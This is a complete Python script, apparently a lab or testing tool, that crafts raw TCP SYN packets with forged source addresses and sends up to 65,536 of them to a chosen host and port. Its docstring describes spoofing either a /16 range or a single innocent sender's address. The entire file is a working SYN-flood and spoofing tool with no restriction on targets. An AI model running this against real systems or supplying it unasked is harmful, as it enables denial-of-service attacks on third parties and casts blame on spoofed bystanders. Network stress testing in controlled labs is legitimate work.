#!/usr/bin/env python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""synflood.py - spoofed TCP SYNs from many source addresses, bounded.

Usage: synflood.py DST PORT COUNT SRC
Sends COUNT SYNs to DST:PORT through a raw socket.  SRC is either a /16
given as two octets (e.g. 198.18 for the RFC 2544 benchmarking range):
each SYN then comes from a different address in it; or one address: every
SYN claims to come from it (a flood in an innocent sender's name).  No
handshake can complete: nobody who holds the address asked for them.
Prints the number sent.
"""
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    dst, port, count, prefix = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    count = min(count, 65536)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    for i in range(count):
        src = prefix if prefix.count(".") == 3 else f"{prefix}.{(i >> 8) & 255}.{i & 255}"
        s.sendto(syn(src, dst, 1024 + i % 60000, port, i * 7919), (dst, 0))
    print(count)


if __name__ == "__main__":
    main()
